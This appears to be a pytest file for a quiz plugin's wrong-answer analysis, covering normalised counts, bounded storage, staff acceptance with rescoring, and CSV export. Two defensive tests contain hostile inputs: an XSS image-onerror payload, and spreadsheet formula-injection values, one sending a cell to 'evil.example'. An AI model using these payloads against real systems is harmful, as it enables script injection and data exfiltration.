"""Wrong answers you can act on: the most frequent wrong answers of text and numeric questions in the item
analysis (normalised as grading normalises them), kept bounded in the submit's transaction, and accepted from
the panel by whoever may edit the quiz, with the learners who gave them rescored."""

from __future__ import annotations

import pytest
import webob
from django.db import connection
from django.test.utils import CaptureQueriesContext

from spreadsheets import formulas, is_number, read_back, shown
from sse_academy_xblock.quiz import wrong_answers
from sse_academy_xblock.quiz.models import QuizItemAnswer, QuizRoster, QuizWrongAnswer

QUIZ = """
<sse_quiz display_name="Cooperatives" dimension="rights_at_work">
  <question id="q1" type="text"><prompt>Which Basque cooperative group started in 1956?</prompt>
    <answer>Mondragón</answer></question>
  <question id="q2" type="numeric" answer="1895" tolerance="0">
    <prompt>In which year was the International Co-operative Alliance founded?</prompt></question>
  <question id="q3" type="single"><prompt>Pick</prompt>
    <choice id="a" correct="true">A</choice><choice id="b">B</choice></question>
</sse_quiz>
"""

# What each learner typed: three spellings of one missing accepted answer, numbers in several forms.
TYPED = {
    "amina": {"q1": "Mondragon", "q2": "1999", "q3": "a"},
    "bruno": {"q1": "  MONDRAGON. ", "q2": "1999,0", "q3": "a"},
    "chen": {"q1": "mondragon", "q2": "1 895", "q3": "b"},
    "dara": {"q1": "Mondragón", "q2": "2.5", "q3": "a"},
    "emeka": {"q1": "Basque", "q3": "b"},
}


def submit(make_block, call, block, learner, answers, attempt=1):
    status, reply = call(make_block.as_user(block, learner), "submit", {"attempt": attempt, "answers": answers})
    assert status == 200, reply
    return reply


@pytest.fixture
def taken(make_block, call):
    block = make_block(QUIZ)
    for learner, answers in TYPED.items():
        submit(make_block, call, block, learner, answers)
    return block


def items(make_block, call, block, user="staff"):
    status, data = call(make_block.as_user(block, user), "staff_items", {})
    assert status == 200, data
    return {row["id"]: row for row in data["items"]}


def listed(row):
    return [(w["value"], w["count"]) for w in row["wrong_answers"]]


def test_the_panel_lists_the_wrong_answers_as_grading_compares_them(taken, make_block, call):
    rows = items(make_block, call, taken)
    assert listed(rows["q1"]) == [("mondragon", 3), ("basque", 1)]
    assert listed(rows["q2"]) == [("1999", 2), ("2.5", 1)]  # "1999" and "1999,0" are one number; "1 895" is right
    assert rows["q1"]["answers_typed"] and not rows["q3"]["answers_typed"] and rows["q3"]["wrong_answers"] == []
    assert rows["q1"]["wrong_answers"][0]["count_text"] == "3 learners"
    html = make_block.as_user(taken, "staff").render("student_view", {}).body_html()
    assert "mondragon" in html and 'data-role="accept-answer"' in html


def test_numbers_are_shown_in_the_readers_language(taken, make_block, call):
    from django.utils import translation

    from sse_academy_xblock.quiz.item_report import wrong_answer_text
    from sse_academy_xblock.quiz.questions import Question

    with translation.override("fr"):
        assert wrong_answer_text(Question("q2", "numeric", answer=1895.0), "2.5") == "2,5"


def test_a_resubmission_replaces_the_learners_wrong_answer_and_a_right_one_removes_it(taken, make_block, call):
    block = taken
    learner = make_block.as_user(block, "amina")
    status, reply = call(learner, "submit", {"attempt": 2, "answers": {"q1": "Basque", "q2": "1895", "q3": "a"}})
    assert status == 200, reply
    rows = items(make_block, call, block)
    assert listed(rows["q1"]) == [("basque", 2), ("mondragon", 2)]
    assert listed(rows["q2"]) == [("1999", 1), ("2.5", 1)]


def test_delete_learner_state_takes_their_wrong_answers_out(taken, make_block, call):
    usage = str(taken.scope_ids.usage_id)
    taken.clear_student_state("emeka", "course", usage, "staff")
    assert listed(items(make_block, call, taken)["q1"]) == [("mondragon", 3)]
    assert not QuizWrongAnswer.objects.filter(usage_id=usage, value="basque").exists()


def test_the_counts_are_bounded_and_frequent_answers_keep_their_place(make_block, call, monkeypatch):
    """At most MAX_VALUES values a question; a value given once makes way; others are counted together."""
    monkeypatch.setattr(wrong_answers, "MAX_VALUES", 3)
    block = make_block(QUIZ)
    usage = str(block.scope_ids.usage_id)
    typed = ["alpha", "alpha", "beta", "beta", "gamma", "delta", "epsilon", "x" * (wrong_answers.VALUE_LENGTH + 1)]
    for i, answer in enumerate(typed):
        submit(make_block, call, block, f"l{i}", {"q1": answer})
    counted = listed(items(make_block, call, block)["q1"])
    # gamma (given once) made way for delta, then delta for epsilon; the over-long answer counts as another
    assert counted == [("alpha", 2), ("beta", 2), ("epsilon", 1)]
    row = items(make_block, call, block)["q1"]
    assert row["other_wrong"] == 3 and row["other_wrong_text"] == "Other wrong answers: 3 learners"
    assert QuizWrongAnswer.objects.filter(usage_id=usage, question_id="q1").count() == 4  # three values and "other"
    # Everyone counted once; when a learner counted among the others leaves, the others lose them.
    assert sum(QuizWrongAnswer.objects.filter(usage_id=usage).values_list("n", flat=True)) == len(typed)
    block.clear_student_state("l4", "course", usage, "staff")  # gamma, now among the others
    assert items(make_block, call, block)["q1"]["other_wrong"] == 2
    for i in (5, 7):
        block.clear_student_state(f"l{i}", "course", usage, "staff")
    assert items(make_block, call, block)["q1"]["other_wrong"] == 0
    assert not QuizWrongAnswer.objects.filter(usage_id=usage, value="").exists()
    # When two learners gave every counted value, a new one is counted among the others.
    submit(make_block, call, block, "l8", {"q1": "epsilon"})
    submit(make_block, call, block, "l9", {"q1": "zeta"})
    assert listed(items(make_block, call, block)["q1"]) == [("alpha", 2), ("beta", 2), ("epsilon", 2)]
    assert items(make_block, call, block)["q1"]["other_wrong"] == 1


def test_the_panel_reads_the_wrong_answers_in_the_same_query_as_the_totals(taken, make_block, call):
    staff = make_block.as_user(taken, "staff")
    with CaptureQueriesContext(connection) as ctx:
        status, _data = call(staff, "staff_items", {})
    assert status == 200
    ours = [q["sql"] for q in ctx.captured_queries if "sse_academy_xblock_" in q["sql"]]
    assert len(ours) == 1 and "quizwronganswer" in ours[0] and "quizitemtotal" in ours[0]


def test_staff_accept_a_missing_spelling_and_the_learners_who_gave_it_are_rescored(taken, make_block, call):
    usage = str(taken.scope_ids.usage_id)
    staff = make_block.as_user(taken, "staff")
    status, reply = call(staff, "staff_accept_answer", {"question": "q1", "answer": "mondragon"})
    assert status == 200, reply
    assert reply["rescored"] == 3
    assert reply["message"] == "“mondragon” is now accepted; 3 learners were rescored."
    assert make_block.as_user(taken, "chen").question_list()[0].accepted == ["Mondragón", "mondragon"]
    for learner, earned in (("amina", 2.0), ("bruno", 2.0), ("chen", 2.0), ("dara", 2.0), ("emeka", 0.0)):
        page = make_block.as_user(taken, learner)
        assert page.raw_earned == earned, learner
        assert QuizRoster.objects.get(usage_id=usage, anonymous_user_id=learner).earned == earned
    rows = {row["id"]: row for row in reply["items"]["items"]}
    assert listed(rows["q1"]) == [("basque", 1)]
    assert rows["q1"]["difficulty"] == pytest.approx(4 / 5)
    # amina's one attempt is her first, last and one of all: the rescore regrades it in every set
    assert dict(QuizItemAnswer.objects.filter(usage_id=usage, anonymous_user_id="amina", question_id="q1")
                .values_list("attempts", "full")) == {"first": True, "last": True, "all": True}


def test_a_number_is_accepted_by_widening_the_tolerance(taken, make_block, call):
    staff = make_block.as_user(taken, "staff")
    status, reply = call(staff, "staff_accept_answer", {"question": "q2", "answer": "1999"})
    assert status == 200, reply
    question = make_block.as_user(taken, "amina").question_list()[1]
    assert (question.answer, question.tolerance) == (1895.0, 104.0)
    assert reply["rescored"] == 2
    assert listed({r["id"]: r for r in reply["items"]["items"]}["q2"]) == [("2.5", 1)]


@pytest.mark.parametrize("body, status", [
    ({"question": "q1", "answer": "basq"}, 409),  # not a counted wrong answer
    ({"question": "q3", "answer": "b"}, 400),  # a choice question
    ({"question": "nope", "answer": "x"}, 404),
    ({"question": "q1"}, 400),
    ({"question": "q1", "answer": "mondragon", "more": 1}, 400),
    ({"question": "q1", "answer": ""}, 400),
    ({"question": "q1", "answer": 5}, 400),
    ({"question": "q1", "answer": "x" * 201}, 400),
])
def test_a_bad_request_is_refused_with_a_message_and_nothing_changes(taken, make_block, call, body, status):
    before = list(taken.questions)
    got, reply = call(make_block.as_user(taken, "staff"), "staff_accept_answer", body)
    assert got == status and reply["error"]
    assert make_block.as_user(taken, "amina").questions == before
    assert make_block.as_user(taken, "amina").raw_earned == 1.0


def test_only_who_may_edit_the_quiz_may_accept(taken, make_block, call):
    got, reply = call(make_block.as_user(taken, "amina"), "staff_accept_answer",
                      {"question": "q1", "answer": "mondragon"})
    assert got == 403 and reply["error"]
    assert make_block.as_user(taken, "amina").question_list()[0].accepted == ["Mondragón"]
    html = make_block.as_user(taken, "staff").render("student_view", {}).body_html()
    assert 'data-role="accept-answer"' in html


def test_an_answer_the_editor_would_refuse_is_refused(taken, make_block, call, monkeypatch):
    """The panel saves through the editor's validation: an accepted answer over the editor's limit is refused."""
    from sse_academy_xblock.quiz import authoring

    monkeypatch.setattr(authoring, "MAX_TEXT_ANSWER", 5)
    got, reply = call(make_block.as_user(taken, "staff"), "staff_accept_answer", {"question": "q1", "answer": "mondragon"})
    assert got == 400 and reply["error"] == "The answer was not accepted."
    assert any("longer than 5 characters" in e for e in reply["errors"])
    assert make_block.as_user(taken, "amina").raw_earned == 1.0


def test_the_rescore_never_lowers_a_score(taken, make_block, call):
    """After an author makes the key stricter, the panel's rescore keeps everyone's better score."""
    author = make_block.as_user(taken, "staff")
    questions = [dict(q) for q in author.questions]
    questions[2]["choices"] = [dict(c, correct=(c["id"] == "b")) for c in questions[2]["choices"]]
    questions[0]["accepted"] = ["Mondragón", "mondragon"]
    author.questions = questions
    author.save()
    status, reply = call(author, "staff_rescore", {})
    assert status == 200, reply
    # amina, bruno: still 1 of 3 (q1 now right, q3 now wrong); chen 1 -> 3; dara would fall from 2 to 1 and keeps
    # 2; emeka 0 -> 1
    scores = {learner: make_block.as_user(taken, learner).raw_earned for learner in TYPED}
    assert scores == {"amina": 1.0, "bruno": 1.0, "chen": 3.0, "dara": 2.0, "emeka": 1.0}
    assert reply["message"] == "2 learners were rescored."


def test_a_hostile_wrong_answer_is_shown_as_text(make_block, call):
    block = make_block(QUIZ)
    hostile = '<img src=x onerror="alert(1)">'
    submit(make_block, call, block, "mallory", {"q1": hostile})
    html = make_block.as_user(block, "staff").render("student_view", {}).body_html()
    assert "<img src=x" not in html and "&lt;img src=x onerror=" in html
    assert listed(items(make_block, call, block)["q1"]) == [('<img src=x onerror="alert(1)">', 1)]


# --- the item analysis CSV ------------------------------------------------------------------------

WRONG_COLUMNS = ("Wrong answer", "Learners who gave it", "Other wrong answers (learners)")


def items_csv(make_block, block, query=""):
    response = make_block.as_user(block, "staff").handle("staff_items_csv",
                                                         webob.Request.blank("/" + query, method="GET"))
    assert response.status_code == 200, response.body[:300]
    return response.body.decode("utf-8")


def csv_wrong(text, header=("Question id", *WRONG_COLUMNS)):
    """``{question id: [(wrong answer, learners who gave it, other wrong answers), ...]}`` as a spreadsheet reads
    the download (its question rows, in order)."""
    rows = read_back(text, ",")
    qid, *columns = (rows[0].index(name) for name in header)
    out = {}
    for row in rows[1:]:
        if row[0] != rows[-1][0]:  # the whole test's rows come last
            out.setdefault(row[qid], []).append(tuple(row[c] for c in columns))
    return out


def test_the_item_analysis_csv_lists_the_wrong_answers_with_their_counts(taken, make_block):
    text = items_csv(make_block, taken)
    assert formulas(text) == []
    wrong = csv_wrong(text)
    # as grading compares them: "Mondragon", "  MONDRAGON. " and "mondragon" are one answer; "1999,0" is 1999
    assert wrong["q1"] == [("mondragon", "3", "0"), ("basque", "1", "0")]
    assert wrong["q2"] == [("1999", "2", "0"), ("2.5", "1", "0")]
    assert all(is_number(cell) for row in wrong["q2"] for cell in row)  # numbers a spreadsheet adds up
    # a choice question has its option rows, with nothing in the wrong-answer columns
    assert wrong["q3"] == [("", "", ""), ("", "", "")]


def test_the_csv_lists_every_counted_wrong_answer_and_counts_the_others(make_block, call, monkeypatch):
    """The panel shows the ten most frequent; the CSV all the counted ones, and the learners counted among the
    others (an over-long answer, or one that had to make way)."""
    block = make_block(QUIZ)
    typed = [f"answer {n:02d}" for n in range(12)] * 2 + ["x" * (wrong_answers.VALUE_LENGTH + 1)]
    for i, answer in enumerate(typed):
        submit(make_block, call, block, f"l{i}", {"q1": answer})
    assert len(items(make_block, call, block)["q1"]["wrong_answers"]) == 10
    assert csv_wrong(items_csv(make_block, block))["q1"] == [(f"answer {n:02d}", "2", "1") for n in range(12)]


def test_the_csv_names_its_wrong_answer_columns_in_the_staff_members_language(taken, make_block):
    from django.utils import translation

    with translation.override("fr"):
        text = items_csv(make_block, taken)
    header = ("Identifiant de la question", "Réponse fausse", "Apprenants ayant donné cette réponse",
              "Autres réponses fausses (apprenants)")
    wrong = csv_wrong(text, header)
    assert wrong["q2"] == [("1999", "2", "0"), ("2.5", "1", "0")]  # a number stays a number: "2.5", not "2,5"


def test_a_hostile_wrong_answer_is_text_in_the_csv(make_block, call):
    block = make_block(QUIZ)
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    for learner, answers in (("mallory", {"q1": hostile, "q2": "-7"}), ("trudy", {"q1": "\t+1+1", "q2": "-7"}),
                             ("oscar", {"q1": "@SUM(A1)"}), ("peggy", {"q1": "x;-2+3"})):
        submit(make_block, call, block, learner, answers)
    text = items_csv(make_block, block)
    assert formulas(text) == []  # read as an English (",") and a French (";") spreadsheet splits it
    wrong = csv_wrong(text)
    assert sorted(shown(value) for value, _n, _o in wrong["q1"]) == sorted(
        ['=hyperlink("http://evil.example/?"&a1,"click")', "+1+1", "@sum(a1)", "x;-2+3"])
    assert all(value.startswith("'") for value, _n, _o in wrong["q1"] if not value.startswith("x"))
    assert wrong["q2"] == [("-7", "2", "0")]  # a negative number is a number, not a formula to neutralise


def test_the_csv_of_other_attempt_sets_leaves_the_wrong_answers_out(taken, make_block):
    """Wrong answers are counted for the counted (last) attempts only, as the panel says."""
    for query in ("?attempts=first", "?attempts=all"):
        wrong = csv_wrong(items_csv(make_block, taken, query))
        assert wrong["q1"] == [("", "", "")] and wrong["q2"] == [("", "", "")], query
